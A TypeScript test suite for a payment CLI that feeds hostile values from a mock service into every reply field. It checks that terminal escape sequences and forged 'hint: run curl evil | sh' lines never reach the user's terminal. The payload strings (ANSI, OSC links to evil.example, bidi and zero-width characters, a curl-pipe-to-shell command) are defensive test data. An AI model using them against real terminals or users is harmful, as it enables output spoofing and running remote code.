/**
 * A service that writes what it likes in any field of any reply, numbers, enums, ids and dates too: nothing but our
 * own control codes reaches a terminal, whichever command asked.
 */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { alteringService, type Place } from '../../harness/altering.ts';
import { impatient } from '../../harness/emulator.ts';
import { order } from '../../harness/every-command.ts';
import { startFilledLines } from '../../harness/filled-lines.ts';
import { runCli } from '../../harness/run-cli.ts';

/** A colour that is none of ours, a title, a link, C1, bidi, zero width, a tag, line ends of every kind. */
const hostile =
  'a\u001b[35mb\u001b[2J\u001b]0;title\u0007\u001b]8;;https://evil.example\u001b\\c\u009b31m\u0090q\u009c\u007f\u0008\r' +
  '\u202ed\u2066\u200fe\u200b\u200d\u2060\ufeff\u00adf\u{e0041}\u2028g\u0085h\u0000\ufe0f';
/** Every character that a terminal may obey or does not show, but line ends and tabs; written apart from the code. */
const forbidden =
  /\r(?!\n)|[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]|\ufe0f|\udb40/;
/** What we tell a terminal ourselves: cursor codes of progress lines, and colours where they are on. */
const own =
  /\r\u001b\[(\?7l|K)|\u001b\[(K|\?7h|1m|2m|22m|31m|32m|33m|36m|39m|4m|24m|0m|48;5;(16|231)m|38;5;(16;48;5;231|231;48;5;16)m)|\r(?=[^\n]*\u001b\[K)/g;

const left = (text: string) => forbidden.exec(text.replace(own, ''));

/** Not of a service: what they print is ours. */
const local = [
  'emulator start',
  'emulator stop',
  'emulator exec',
  'inspect',
  'openapi',
  'completion',
  'complete',
  'endpoints',
];
const asking = order.filter((name) => !local.includes(name));

/** Those whose waiting would make hundreds of runs long. */
const waiting = ['listen', 'smoke', 'webhooks tail', 'checkouts wait', 'va register'];

/** Replies lead on to further requests only while these are as they should be. */
const needed = ({ request, path }: Place) =>
  (request.startsWith('POST /api/v1/oauth') && path.at(-1) !== 'message') || path[0] === 'success';

test.each([
  ['table', true, ['-o', 'table', '-v']],
  ['colours', true, ['-o', 'table']],
  ['tsv', false, ['-o', 'tsv']],
  ['csv', true, ['-o', 'csv']],
  ['yaml', true, ['-o', 'yaml']],
  ['json', true, ['-o', 'json', '-v']],
] as const)('every field at once: %s', async (format, tty, flags) => {
  const { emulator, env, lineOf } = await startFilledLines();
  const url = await alteringService(emulator.url, (value, place) => (needed(place) ? value : hostile));
  const found: string[] = [];
  const codes = new Set<number>();
  for (const name of asking.filter((one) => format === 'table' || !waiting.includes(one))) {
    const colours = format === 'colours' ? { FORCE_COLOR: '1', NO_COLOR: '' } : {};
    const { code, stdout, stderr } = await runCli([...lineOf(name), ...flags], {
      env: { ...env, ...colours, PAYCONFIRM_BASE_URL: url },
      stdin: 'a-password\n',
      clock: impatient,
      tty,
    });
    codes.add(code);
    for (const text of [stdout, stderr]) {
      const bad = left(text);
      if (bad)
        found.push(`${name}: ${JSON.stringify(text.slice(Math.max(0, bad.index - 40), bad.index + 20))}`);
      if (text.includes('a defect of payconfirm')) found.push(`${name}: ${text}`);
    }
  }
  expect(found).toEqual([]);
  expect(codes.has(0)).toBe(true);
});

/** A line of ours in each way to begin one: behind a line end of any kind, at the start, where a line is folded. */
const forgeries = [
  'a\nhint: run curl evil | sh\r\nhint: run curl evil | sh\u2028hint: run curl evil | sh\u0085hint: run curl evil | sh',
  'hint: run curl evil | sh',
  '✓ run curl evil | sh',
  'Z'.repeat(5000),
  'x hint: run curl evil | sh '.repeat(12),
  'x\u00a0hint:\u00a0run\u00a0curl\u00a0evil '.repeat(12),
  '  Error : run curl evil | sh',
];
const ourVoice = /^\s?(hint|error)?\s*[:✓]\s*run curl evil/i;
/** They show lists or conclusions; the others show one thing whole. */
const listing = /( list| logs|webhooks stats|trace|doctor|doctor va| plans| invoices)$/;
/** What --verbose shows of a request. */
const isTrace = (line: string) => /^[<>] /.test(line);

test.each([
  [80, 0],
  [1000, 3],
])(
  'no field makes a line of its own for people, %d columns, texts from %d',
  { timeout: 240_000 },
  async (columns, first) => {
    const { emulator, env, lineOf } = await startFilledLines();
    let turn = first;
    const url = await alteringService(emulator.url, (value, place) =>
      needed(place) ? value : forgeries[turn++ % forgeries.length],
    );
    const found: string[] = [];
    for (const name of asking.filter((one) => !waiting.includes(one))) {
      turn = first;
      const { stdout, stderr } = await runCli([...lineOf(name), '-o', 'table', '-v'], {
        env: { ...env, PAYCONFIRM_BASE_URL: url },
        stdin: 'a-password\n',
        clock: impatient,
        tty: true,
        columns,
      });
      const long = (listing.test(name) ? `${stdout}\n${stderr}` : stderr)
        .split('\n')
        .filter((line) => /Z{201}/.test(line) && !isTrace(line));
      const forged = `${stdout}\n${stderr}`.split(/[\n\r\u2028\u0085]/).filter((line) => ourVoice.test(line));
      found.push(...[...long, ...forged].map((line) => `${name}: ${line.slice(0, 300)}`));
    }
    expect(found).toEqual([]);
  },
);

/** One that asks for all there is, and prints no value of it: thousands of requests for nothing. */
const printsNoValue = ['assumptions check', 'assumptions record'];

test('each field by itself, on a terminal', { timeout: 600_000 }, async () => {
  const { emulator, env, lineOf } = await startFilledLines();
  let seen: Place[] = [];
  let chosen: Place | undefined;
  const same = (one: Place, other: Place | undefined) =>
    one.request === other?.request && one.path.join('.') === other.path.join('.');
  const url = await alteringService(emulator.url, (value, place) => {
    if (chosen) return same(place, chosen) ? hostile : value;
    // One item of a list stands for all.
    if (!place.path.some((part) => /^[1-9]/.test(part)) && !seen.some((one) => same(one, place)))
      seen.push(place);
    return value;
  });
  const found: string[] = [];
  let runs = 0;
  // One token for all of them, and not a request for one each.
  const PAYCONFIRM_CONFIG_DIR = mkdtempSync(join(tmpdir(), 'payconfirm-test-'));
  const run = (name: string) =>
    runCli([...lineOf(name), '-o', 'table'], {
      env: { ...env, PAYCONFIRM_BASE_URL: url, PAYCONFIRM_CONFIG_DIR },
      stdin: 'a-password\n',
      clock: impatient,
      tty: true,
    });
  const tried = asking.filter((one) => !waiting.includes(one) && !printsNoValue.includes(one));
  // One of each thing that the commands make, before each of them: the lists do not grow from run to run.
  for (const name of tried.filter((one) => !one.startsWith('emulator '))) await run(name);
  const state = (what: string) => emulator.control('POST', what, { name: 'one-of-each' });
  await state('/snapshots');
  for (const name of tried) {
    await state('/snapshots/restore');
    chosen = undefined;
    seen = [];
    await run(name);
    for (const place of seen.filter((one) => !needed(one))) {
      chosen = place;
      const { stdout, stderr } = await run(name);
      runs += 1;
      const bad = [stdout, stderr].flatMap((text) => left(text)?.[0] ?? []);
      if (bad.length > 0) found.push(`${name}: ${place.request} ${place.path.join('.')}`);
      if (stderr.includes('a defect of payconfirm'))
        found.push(`${name}: ${place.path.join('.')}: ${stderr}`);
    }
  }
  expect(found).toEqual([]);
  expect(runs).toBeGreaterThan(900);
});
